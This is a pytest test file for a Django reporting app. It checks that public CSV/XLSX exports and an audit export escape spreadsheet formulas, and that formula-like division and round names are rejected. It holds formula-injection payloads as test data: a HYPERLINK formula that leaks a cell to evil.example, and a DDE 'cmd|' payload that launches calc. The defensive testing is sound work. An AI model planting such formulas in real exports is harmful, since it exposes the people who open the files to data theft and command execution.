"""Issue 12, hole 3: no cell of any spreadsheet export is a formula; names are names."""

import csv
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from approvals.exceptions import ValidationFailed
from tests.factories import (
    DivisionFactory,
    MeasureFactory,
    OrganizationFactory,
    ReportingRoundFactory,
    ResultReportFactory,
    UserFactory,
)
from tests.web_helpers import people_of, walk_to_published
from workflow.exports import FORMULA_LEADS, csv_cell, csv_cell_read
from workflow.importing import ReportImportError, report_import
from workflow.models import Division, Measure, ReportingRound
from workflow.services import division_create, division_update, reporting_round_create

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def published_with_divisions(organization, names):
    """One published measure, with its published result report, for divisions `names`."""
    divisions = [DivisionFactory(organization=organization, name=name) for name in names]
    people = people_of(organization, divisions[-1])
    round_ = ReportingRoundFactory(organization=organization, name="รอบ 12 เดือน")
    measure = MeasureFactory(
        organization=organization, fiscal_year=round_.fiscal_year, number=1,
        title="เผยแพร่ข้อมูลข่าวสาร", methods=["ประกาศทางเว็บไซต์", "ปิดประกาศ"],
        divisions=divisions,
    )  # fmt: skip
    walk_to_published(measure, people)
    report = ResultReportFactory(
        measure=measure, reporting_round=round_, items=["ดำเนินการแล้ว"],
        recommendations=["ควรดำเนินการต่อเนื่อง"],
    )  # fmt: skip
    walk_to_published(report, people)
    return people, measure


def downloads(client, organization):
    csv_bytes = client.get(reverse("public:report-csv", args=[organization.slug, 2564])).content
    xlsx_bytes = b"".join(client.get(reverse("public:report-xlsx", args=[organization.slug, 2564])))
    return csv_bytes, xlsx_bytes


def test_a_formula_in_a_division_name_is_text_in_the_public_csv_and_xlsx(client):
    # given a division whose name (stored before names were checked) is a formula,
    # next to another: the divisions cell then begins with "-" too
    organization = OrganizationFactory(slug="khao-thong")
    published_with_divisions(organization, [HOSTILE, "กองคลัง"])

    # when the public downloads the report
    csv_bytes, xlsx_bytes = downloads(client, organization)

    # then no CSV cell begins with a formula character
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_LEADS)]
    assert rows[1][2].startswith("'-") and HOSTILE in rows[1][2]
    # and every XLSX cell is a string, the sheet holds no formula at all
    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
    xlsx_cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in xlsx_cells} == {"s"}
    assert sheet["C2"].value == csv_cell_read(rows[1][2])
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_importer_reads_the_public_csv_and_xlsx_back_unchanged(client):
    # given a published measure of two divisions (its divisions cell begins with "-")
    organization = OrganizationFactory(slug="khao-thong")
    _people, published = published_with_divisions(organization, ["กองช่าง", "กองคลัง"])
    csv_bytes, xlsx_bytes = downloads(client, organization)

    for name, data in (("report.csv", csv_bytes), ("report.xlsx", xlsx_bytes)):
        # when another organization imports the download
        other = OrganizationFactory(slug=f"copy-{name[-4:]}")
        for division in ("กองช่าง", "กองคลัง"):
            DivisionFactory(organization=other, name=division)
        ReportingRoundFactory(organization=other, name="รอบ 12 เดือน")
        report_import(source=io.BytesIO(data), source_name=name, organization=other,
                      fiscal_year=2564)  # fmt: skip

        # then it reads what was published, to the letter
        copy = Measure.objects.get(organization=other)
        assert copy.title == published.title
        assert [m.text for m in copy.methods.all()] == ["ประกาศทางเว็บไซต์", "ปิดประกาศ"]
        assert {d.name for d in copy.divisions.all()} == {"กองช่าง", "กองคลัง"}
        report = copy.result_reports.get()
        assert [i.text for i in report.items.all()] == ["ดำเนินการแล้ว"]


@pytest.mark.parametrize(
    "text", ["=1+1", "'=1+1", "''@SUM(A1)", "- กองคลัง", "+66", "'quoted", "ธรรมดา", "", "\t="]
)
def test_csv_cell_read_gives_back_what_csv_cell_wrote(text):
    written = csv_cell(text)
    assert not written.startswith(FORMULA_LEADS)
    assert csv_cell_read(written) == text


def test_the_audit_csv_export_writes_a_leading_formula_character_as_text(client):
    # given a history row whose reason begins with a formula character
    organization = OrganizationFactory(slug="khao-thong")
    people = people_of(organization, DivisionFactory(organization=organization, name="กองคลัง"))
    division = Division.objects.get(organization=organization)
    division._history_user = people.auditor
    division._change_reason = "@SUM(1+1)*cmd|' /C calc'!A0"
    division.name = "กองคลังใหม่"
    division.save()

    # when
    client.force_login(people.auditor)
    response = client.get(reverse("audit:export", args=[organization.slug, "csv"]))

    # then
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_LEADS)]


@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "+กอง", "-กองคลัง", "@กอง", "(กอง)"])
def test_division_and_round_names_must_be_names(world, name):
    # given the organization's admin
    admin = world["admin"]

    # when / then: a division, a renamed division and a round cannot be called that
    with pytest.raises(ValidationFailed) as created:
        division_create(organization=world.organization, actor=admin, name=name)
    with pytest.raises(ValidationFailed):
        division_update(division=world.division, actor=admin, name=name)
    with pytest.raises(ValidationFailed):
        reporting_round_create(
            organization=world.organization, actor=admin, fiscal_year=2564, name=name,
            months=6, due_on=world.fiscal_year.ends_on,
        )  # fmt: skip
    assert "name" in created.value.fields
    # nor through the Django admin's form (the models' clean)
    with pytest.raises(ValidationError):
        Division(organization=world.organization, name=name).full_clean()
    with pytest.raises(ValidationError):
        ReportingRound(
            organization=world.organization, fiscal_year=world.fiscal_year, name=name, due_on=
            world.fiscal_year.ends_on,
        ).full_clean()  # fmt: skip
    assert not Division.objects.filter(name=name).exists()


def test_the_importer_does_not_create_a_division_named_by_a_formula(khao_thong, tmp_path):
    # given the seed report where one division cell is a formula
    from tests.test_importing import _edited

    path = _edited(tmp_path, 17, "สำนักปลัด อบต.\t", "@SUM(A1:A9)\t")

    # when / then
    with pytest.raises(ReportImportError) as refused:
        report_import(
            source=path, organization=khao_thong, fiscal_year=2564,
            create_missing_divisions=True, actor=UserFactory(),
        )  # fmt: skip
    assert "line 17" in str(refused.value) or refused.value.line == 17
    assert not Division.objects.filter(name__startswith="@").exists()
